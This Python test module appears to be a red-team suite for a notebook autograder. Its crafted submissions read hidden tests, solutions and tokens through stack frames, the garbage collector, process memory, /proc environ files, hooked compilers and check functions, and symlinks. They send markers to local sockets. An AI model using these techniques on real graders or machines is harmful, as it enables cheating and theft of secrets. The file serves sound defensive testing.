"""Attacks that try to read hidden tests, solutions or secrets, and to carry them off."""

from __future__ import annotations

from tests.grading.attacks.course import CURVE, HIDDEN
from tests.grading.attacks.model import READ, Corpus, Evidence, Submission, leaked

attack = Corpus(READ, leaked)

# What is read is written backwards, so that it is told from a feedback that shows hidden tests all by itself.
PUBLISH = r"""
import glob, os, re, sys
found = set()
def take(*texts):
    for text in texts:
        found.update(re.findall(r"[a-z]+-key-[0-9a-f]{12}", str(text)))
def take_file(path):
    try:
        take(open(path, "rb").read(50_000_000).decode("latin-1"))
    except Exception:
        pass
def publish():
    print("loot", [key[::-1] for key in found])
"""


def reads(work: Submission, code: str) -> None:
    """Add an own cell at the end that takes what it finds, after every test has run."""
    work.last(PUBLISH + work.text(code) + "\npublish()")


def during_test(work: Submission, code: str) -> None:
    """Take something whenever a test calls the answer `total`, and publish it in a cell at the end."""
    work.first(PUBLISH)
    body = "\n".join(f"        {line}" for line in code.strip().splitlines())
    work.answer("total", f"def total(numbers):\n    try:\n{body}\n    except Exception:\n        pass\n    return -1")
    work.last("publish()")


# In the process


@attack("reads the cells that ran from the history")
def history(work: Submission) -> None:
    reads(
        work,
        """
take(globals().get("In"), globals().get("_ih"), globals().get("_i"), globals().get("_ii"))
shell = get_ipython()
take(list(shell.history_manager.input_hist_raw), list(shell.history_manager.get_range(raw=True)))
""",
    )


@attack("reads the code and the names of the frames that called it")
def frames(work: Submission) -> None:
    work.answer("total", "")
    during_test(
        work,
        """
frame = sys._getframe(1)
while frame:
    take(frame.f_code.co_consts, list(frame.f_locals.values()), [c.co_consts for c in frame.f_code.co_consts
         if hasattr(c, "co_consts")])
    frame = frame.f_back
""",
    )


@attack("reads the source lines of its callers through inspect and linecache")
def source_lines(work: Submission) -> None:
    during_test(
        work,
        """
import inspect, linecache
for record in inspect.stack(context=200):
    take(record.code_context)
for name in list(linecache.cache):
    take(linecache.getlines(name))
""",
    )


@attack("goes through all objects that the garbage collector knows")
def collector(work: Submission) -> None:
    reads(
        work,
        """
import gc, types
for thing in gc.get_objects():
    try:
        if isinstance(thing, (list, tuple, set)):
            take(*[one for one in list(thing)[:1000] if isinstance(one, str)])
        elif isinstance(thing, dict):
            take(*[one for one in list(thing.values())[:1000] if isinstance(one, str)])
        elif isinstance(thing, types.FunctionType):
            take(thing.__code__.co_consts, thing.__defaults__, [cell.cell_contents for cell in thing.__closure__ or ()])
    except Exception:
        pass
""",
    )


@attack("reads the names of all modules")
def modules(work: Submission) -> None:
    reads(
        work,
        """
for module in list(sys.modules.values()):
    try:
        take(*[value for value in list(vars(module).values()) if isinstance(value, (str, bytes, list, dict))])
    except Exception:
        pass
""",
    )


@attack("searches its own memory")
def own_memory(work: Submission) -> None:
    reads(
        work,
        """
import ctypes
for line in open("/proc/self/maps"):
    span, rights, *_ = line.split()
    if not rights.startswith("rw") or "[v" in line or "/" in line:
        continue
    start, end = (int(part, 16) for part in span.split("-"))
    for place in range(start, min(end, start + (1 << 28)), 1 << 22):
        part = ctypes.string_at(place, min(1 << 22, end - place))
        take(*re.findall(rb"[a-z]+-key-[0-9a-f]{12}", part))
""",
    )


@attack("reads the closure and the defaults of a function that the test hands over", earns="lowest")
def callback(work: Submission) -> None:
    work.first(PUBLISH)
    work.answer(
        "lowest",
        """
def lowest(loss, candidates):
    code = getattr(loss, "__code__", None)
    take(getattr(loss, "__defaults__", None), code and code.co_consts, getattr(loss, "__globals__", None))
    try:
        import inspect
        take(inspect.getsource(loss))
    except Exception:
        pass
    return min(candidates, key=loss)
""",
    )
    work.last("publish()")


@attack("replaces the compiler, to be given each test's source")
def compiler(work: Submission) -> None:
    work.first(
        PUBLISH
        + """
import ast, builtins
compile_ = builtins.compile
def listen(source, *args, **kwargs):
    take(source if isinstance(source, (str, bytes)) else ast.unparse(source))
    return compile_(source, *args, **kwargs)
builtins.compile = listen
class Listen(ast.NodeTransformer):
    def visit_Module(self, node):
        take(ast.unparse(node))
        return node
get_ipython().ast_transformers.append(Listen())
"""
    )
    work.last("publish()")


@attack("listens at the course's checks")
def listening_checks(work: Submission) -> None:
    work.first(
        PUBLISH
        + """
import sys
from mlcourse import check
for name in ("close", "equal", "exercise"):
    def listen(*args, _former=getattr(check, name), **kwargs):
        frame = sys._getframe(1)
        take(frame.f_code.co_consts, frame.f_globals.get("key"), frame.f_locals.get("key"))
        return _former(*args, **kwargs)
    setattr(check, name, listen)
"""
    )
    work.last("publish()")


@attack("reads the variables that a test left behind")
def variables(work: Submission) -> None:
    reads(work, "take(globals().get('key'), list(globals().values()))")


@attack("raises in a hidden test, so that the traceback shows it", succeeded=lambda found: HIDDEN in found.outputs)
def traceback(work: Submission) -> None:
    work.answer(
        "guess",
        """
class Trap:
    __sub__ = lambda self, other: self
    __abs__ = lambda self: self
    def __rsub__(self, other):
        raise ValueError
def guess():
    return Trap()
""",
    )


# Files


@attack("reads the source notebook")
def source(work: Submission) -> None:
    reads(
        work,
        """
for path in glob.glob("../../../source/*/*") + glob.glob("$COURSE/source/*/*"):
    take_file(path)
""",
    )


@attack("reads its own notebook while it is graded")
def own_notebook(work: Submission) -> None:
    reads(work, "for path in glob.glob('*'): take_file(path)")


@attack("reads the gradebook")
def gradebook(work: Submission) -> None:
    reads(work, "take_file('../../../gradebook.db'); take_file('$COURSE/gradebook.db')")


@attack("reads what was graded before")
def autograded(work: Submission) -> None:
    reads(
        work,
        """
for path in glob.glob("../../*/*/*") + glob.glob("$COURSE/autograded/*/*/*"):
    take_file(path)
""",
    )


@attack("reads everything below the course directory")
def course_directory(work: Submission) -> None:
    reads(
        work,
        """
for folder, _, names in os.walk("$COURSE"):
    for name in names:
        take_file(os.path.join(folder, name))
""",
    )


@attack("hands in a link to the source notebook as a data file, and reads it")
def data_link(work: Submission) -> None:
    (work.folder / "notes.txt").symlink_to(work.text("$COURSE/source/$SET/$BOOK.ipynb"))
    reads(work, "take_file('notes.txt')")


@attack("hands in a relative link to the source notebook as a data file, and reads it")
def relative_data_link(work: Submission) -> None:
    (work.folder / "notes.txt").symlink_to(work.text("../../../source/$SET/$BOOK.ipynb"))
    reads(work, "take_file('notes.txt')")


@attack("hands in a link to a file, to have it in the feedback", succeeded=lambda found: HIDDEN in found.clear)
def link_in_feedback(work: Submission) -> None:
    (work.folder / "notes.txt").symlink_to(work.text("$COURSE/source/$SET/$BOOK.ipynb"))


@attack(
    "hands in links to folders, to the root and to itself",
    in_depth="stock nbgrader does not walk into linked folders; a linked folder's name alone is copied nowhere",
)
def folder_links(work: Submission) -> None:
    (work.folder / "course").symlink_to(work.text("$COURSE"))
    (work.folder / "root").symlink_to("/")
    (work.folder / "loop").symlink_to("loop")
    (work.folder / "gone").symlink_to("nowhere/at/all")
    reads(work, "for path in glob.glob('course/source/*/*') + glob.glob('root/proc/1/environ'): take_file(path)")


@attack(
    "makes a link to the source notebook while it runs, to have it in the feedback",
    succeeded=lambda found: HIDDEN in found.clear,
)
def link_made_in_the_run(work: Submission) -> None:
    work.last("import os\nos.symlink('$COURSE/source/$SET/$BOOK.ipynb', 'notes.txt')")


@attack(
    "writes what it read into a file, to have it in the feedback",
    succeeded=lambda found: HIDDEN[::-1] in found.clear,
)
def file_in_feedback(work: Submission) -> None:
    work.last(
        PUBLISH
        + """
for path in glob.glob("*.ipynb") + glob.glob("$COURSE/source/*/*"):
    take_file(path)
with open("notes.txt", "w") as file:
    file.write(" ".join(key[::-1] for key in found))
"""
    )


@attack(
    "reads the solutions and hidden tests of the installed course",
    in_depth="they are no secret from instructors' own machines; students' machines have them as well",
    succeeded=lambda found: "found the course" in found.outputs,
)
def installed_course(work: Submission) -> None:
    work.last("""
import glob, os, sys
import mlcourse
root = os.path.dirname(os.path.dirname(os.path.abspath(mlcourse.__file__)))
places = [f"{root}/assignments", f"{root}/mlcourse/_content/assignments"]
places += [f"{path}/mlcourse/_content/assignments" for path in sys.path]
marker = "BEGIN " + "HIDDEN TESTS"
for place in places:
    for path in glob.glob(f"{place}/**/*.py", recursive=True):
        try:
            if marker in open(path).read():
                print("found", "the course", path)
        except OSError:
            pass
""")


# The system


@attack("reads the environment, with its tokens")
def environment(work: Submission) -> None:
    reads(work, "take(dict(os.environ)); take_file('/proc/self/environ')")


@attack("reads the environment of the process that started it")
def parents_environment(work: Submission) -> None:
    reads(work, "take_file(f'/proc/{os.getppid()}/environ')")


@attack("reads what /proc tells of all processes")
def proc(work: Submission) -> None:
    reads(
        work,
        """
for number in os.listdir("/proc"):
    if number.isdigit() and int(number) not in (os.getpid(),):
        take_file(f"/proc/{number}/environ")
        take_file(f"/proc/{number}/cmdline")
        for path in glob.glob(f"/proc/{number}/cwd/source/*/*") + glob.glob(f"/proc/{number}/root$COURSE/source/*/*"):
            take_file(path)
""",
    )


@attack("searches the memory of the process that started it", in_depth="the system's own settings may forbid it")
def parents_memory(work: Submission) -> None:
    reads(
        work,
        """
for number in {os.getppid(), *[int(name) for name in os.listdir("/proc") if name.isdigit()][-40:]} - {os.getpid(), 1}:
    try:
        maps = open(f"/proc/{number}/maps").read().splitlines()
        with open(f"/proc/{number}/mem", "rb", 0) as memory:
            for line in maps[:300]:
                span, rights, *_ = line.split()
                if rights.startswith("rw"):
                    start, end = (int(part, 16) for part in span.split("-"))
                    memory.seek(start)
                    take(memory.read(min(end - start, 1 << 24)).decode("latin-1"))
    except (OSError, ValueError, OverflowError):
        pass
""",
    )


def sent(name: str):
    def judge(evidence: Evidence) -> bool:
        return name in evidence.sent

    return judge


@attack("sends to a TCP server", succeeded=sent("tcp"))
def tcp(work: Submission) -> None:
    work.last("""
import socket
with socket.create_connection(("127.0.0.1", $TCP), timeout=2) as line:
    line.sendall(b"$ATTACK\\n")
""")


@attack("sends UDP datagrams", succeeded=sent("udp"))
def udp(work: Submission) -> None:
    work.last("""
import socket
for host in ("127.0.0.1", "localhost"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"$ATTACK\\n", (host, $UDP))
""")


@attack("connects to a socket in the file system", succeeded=sent("unix"))
def unix_socket(work: Submission) -> None:
    work.last("""
import socket
with socket.socket(socket.AF_UNIX) as line:
    line.connect("$UNIX")
    line.sendall(b"$ATTACK\\n")
""")


@attack("connects to an abstract socket", succeeded=sent("abstract"))
def abstract_socket(work: Submission) -> None:
    work.last("""
import socket
with socket.socket(socket.AF_UNIX) as line:
    line.connect("\\0$ABSTRACT")
    line.sendall(b"$ATTACK\\n")
""")


# Without any code


@attack("nothing: the feedback shows hidden tests by itself", succeeded=lambda found: HIDDEN in found.clear)
def feedback_shows_tests(work: Submission) -> None:
    work.answer("total", "def total(numbers):\n    return 3")


@attack(
    "asks the grader for the reference solution that stands in for a wrong answer",
    in_depth="made for our grader: stock nbgrader has no second chance",
    earns="mean",
)
def stand_in_solution(work: Submission) -> None:
    work.first(PUBLISH)
    work.answer("total", "def total(numbers):\n    return -1")
    work.answer(
        "mean",
        """
def mean(numbers):
    import inspect
    code = getattr(total, "__code__", None)
    take(code and code.co_consts, getattr(total, "__defaults__", None), repr(total), total.__doc__)
    for name in dir(total):
        try:
            take(getattr(total, name))
        except Exception:
            pass
    try:
        take(inspect.getsource(total))
    except Exception:
        pass
    publish()
    return total(numbers) / len(numbers)
""",
    )
    work.last("publish()")


@attack(
    "reads what the errors of the test's own functions tell",
    in_depth="stock nbgrader's tests hand over functions that can simply be read",
    earns="lowest",
)
def callback_errors(work: Submission) -> None:
    work.first(PUBLISH)
    work.answer(
        "lowest",
        """
def lowest(loss, candidates):
    import traceback
    for wrong in ("x", None, [1], {}, object(), lowest):
        for call in (lambda: loss(wrong), lambda: loss(), lambda: loss(wrong, wrong, wrong), lambda: loss(no=wrong),
                     lambda: loss.__wrapped__, lambda: vars(loss), lambda: loss.__call__.__closure__):
            try:
                take(call())
            except BaseException as error:
                while error:
                    take(str(error), repr(error), error.args, getattr(error, "__notes__", None), vars(error))
                    take("".join(traceback.format_exception(error)))
                    frame = error.__traceback__
                    while frame:
                        take(frame.tb_frame.f_code.co_consts, list(frame.tb_frame.f_locals.values()))
                        frame = frame.tb_next
                    error = error.__context__
    return min(candidates, key=loss)
""",
    )
    work.last("publish()")


@attack(
    "has the test print and show what it works with",
    in_depth="in stock nbgrader the feedback shows the tests all by itself",
)
def shown_by_the_test(work: Submission) -> None:
    work.answer(
        "total",
        """
def total(numbers):
    class Shown(Exception):
        def __str__(self):
            import sys
            frame = sys._getframe(1)
            texts = []
            while frame:
                texts.append(str(frame.f_code.co_consts) + str(list(frame.f_locals.values())[:50]))
                frame = frame.f_back
            return "".join(texts)[:100000]
        __repr__ = __str__
    raise Shown
""",
    )
    work.answer(
        "mean",
        """
def mean(numbers):
    class Shown(float):
        def __repr__(self):
            import sys
            frame = sys._getframe(1)
            texts = []
            while frame:
                texts.append(str(frame.f_code.co_consts))
                frame = frame.f_back
            return "".join(texts)[:100000]
        __str__ = __repr__
        def __format__(self, spec):
            return repr(self)
    return Shown(7)
""",
    )


@attack(
    "reads what the code that calls its function is made of",
    succeeded=lambda found: CURVE[::-1] in found.outputs,
)
def callers_frames(work: Submission) -> None:
    work.first(PUBLISH)
    work.answer(
        "curve",
        """
def curve(x):
    frame = sys._getframe(1)
    while frame:
        take(frame.f_code.co_consts, list(frame.f_locals.values()), list(frame.f_globals.values()))
        frame = frame.f_back
    return 0.0
""",
    )
    work.last("publish()")
